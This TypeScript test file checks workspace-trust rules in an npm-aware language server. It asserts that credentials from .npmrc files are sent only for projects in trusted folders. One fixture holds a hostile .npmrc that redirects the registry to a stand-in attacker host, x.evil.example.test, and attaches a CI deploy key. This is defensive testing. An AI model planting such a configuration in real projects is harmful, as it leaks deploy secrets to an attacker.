// biome-ignore-all lint/suspicious/noTemplateCurlyInString: this is how npm writes its variables.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { HttpRequest } from '../../server/src/engine/ports.ts';
import { TEST_REGISTRY } from '../workspace.ts';
import { FOLDER, startClient } from './test-client.ts';

const EVIL = 'registry=https://x.evil.example.test/\n//x.evil.example.test/:_authToken=${CI_DEPLOY_KEY}\n';
const MANIFEST = '{ "name": "a", "dependencies": { "left-pad": "^1.0.0" } }\n';
const OUTSIDE = 'file:///downloads/thing';
const FILES = {
  'package.json': MANIFEST,
  '.npmrc': '//registry.public.example.test/:_authToken=${CI_DEPLOY_KEY}\n',
  'docs/example/package.json': MANIFEST,
  'docs/example/.npmrc': EVIL,
  [`${OUTSIDE}/package.json`]: MANIFEST,
  [`${OUTSIDE}/.npmrc`]: EVIL,
};

/** Returns the requests for the card of a dependency in a file, as "host credential". */
async function sentFor(uri: string, initializationOptions: object, folders = [FOLDER]) {
  const asked: HttpRequest[] = [];
  const client = await startClient({
    ...{ files: FILES, folders, initializationOptions },
    ports: { environment: { CI_DEPLOY_KEY: 'h0sh' }, home: 'file:///home/user' },
    http: {
      async get(request) {
        asked.push(request);
        return { type: 'answer', status: 404, headers: new Map(), body: '' };
      },
    },
  });
  await client.open(uri);
  await client.pull(uri);
  const position = client.rangeOf(uri, 'left-pad').start;
  await client.connection.sendRequest('textDocument/hover', { textDocument: { uri }, position });
  await client.close();
  const hosts = asked.map(({ url, headers }) => `${new URL(url).host} ${headers?.authorization ?? '-'}`);
  return [...new Set(hosts)].filter((host) => !host.startsWith('api.'));
}

const PUBLIC = new URL(TEST_REGISTRY).host;
const IN_ROOT = `${FOLDER}/package.json`;
const NESTED = `${FOLDER}/docs/example/package.json`;
const ELSEWHERE = `${OUTSIDE}/package.json`;

test('trust in the workspace is trust in the projects at the roots of its folders', async () => {
  assert.deepEqual(await sentFor(IN_ROOT, { trusted: true }), [`${PUBLIC} Bearer h0sh`]);
  assert.deepEqual(await sentFor(NESTED, { trusted: true }), []);
  assert.deepEqual(await sentFor(NESTED, { trusted: true }, [FOLDER, `${FOLDER}/docs/example`]), [
    'x.evil.example.test Bearer h0sh',
  ]);
});

test('a file outside of every workspace folder is not trusted, whatever is said of the workspace', async () => {
  assert.deepEqual(await sentFor(ELSEWHERE, { trusted: true }), []);
  assert.deepEqual(await sentFor(ELSEWHERE, { trusted: true }, []), []);
  assert.deepEqual(await sentFor(IN_ROOT, { trusted: true }, []), []);
});

test('folders are trusted by name: as URIs, as paths, and below the home directory', async () => {
  for (const named of [FOLDER, '/workspace', '/workspace/', 'file:///workspace/'])
    assert.deepEqual(await sentFor(IN_ROOT, { trustedFolders: [named] }), [`${PUBLIC} Bearer h0sh`], named);
  assert.deepEqual(await sentFor(IN_ROOT, { trustedFolders: ['~/../../workspace'] }), [
    `${PUBLIC} Bearer h0sh`,
  ]);
  for (const other of ['/', '/work', '/workspace/docs', 'workspace', 'https://workspace/', '', 1])
    assert.deepEqual(
      (await sentFor(NESTED, { trustedFolders: [other] })).filter((host) => host.includes('h0sh')),
      [],
    );
  assert.deepEqual(await sentFor(ELSEWHERE, { trustedFolders: [FOLDER] }), []);
  assert.deepEqual(await sentFor(IN_ROOT, { trustedFolders: '/workspace' }), []);
});

test('the database of advisories is not fetched by itself where nothing is trusted, and the log says why', async () => {
  const open = async (initializationOptions: object) => {
    let updates = 0;
    const client = await startClient({
      files: FILES,
      initializationOptions,
      settings: { advisories: { updateDatabase: true } },
      ports: {
        database: {
          read: () => undefined,
          stamp: () => undefined,
          checkedAt: async () => undefined,
          async update() {
            updates++;
            return { type: 'failed', message: 'The test has no network.' };
          },
        } as never,
      },
    });
    await client.open(IN_ROOT);
    await client.pull(IN_ROOT);
    await client.until(() => client.logged.length > 0);
    await client.close();
    return { updates, logged: client.logged.join('\n') };
  };
  const untrusted = await open({});
  assert.deepEqual(untrusted.updates, 0);
  assert.match(untrusted.logged, /Updating the advisory database: skipped, as no open folder is trusted/);
  assert.equal((await open({ trusted: true })).updates, 1);
});

test('the status says that the configuration of nested projects is not used', async () => {
  const client = await startClient({ files: FILES, initializationOptions: { trusted: true, status: true } });
  await client.open(NESTED);
  await client.pull(NESTED);
  await client.until(() =>
    JSON.stringify(client.statuses).includes('not used. Open its folder by itself to trust it.'),
  );
  await client.close();
});
